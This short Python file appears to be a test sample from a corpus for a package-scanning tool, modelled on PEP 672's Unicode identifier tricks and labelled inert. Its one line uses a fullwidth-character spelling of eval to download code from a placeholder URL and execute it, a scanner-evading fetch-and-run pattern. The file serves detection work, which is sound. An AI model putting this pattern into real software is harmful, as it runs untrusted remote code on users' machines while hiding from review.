# pkgguard corpus 047 (unicode-identifiers), modelled on [pep672]; inert, never run.
import urllib.request

ｅｖａｌ(compile(urllib.request.urlopen("https://cdn.example/c").read(), "c", "exec"))
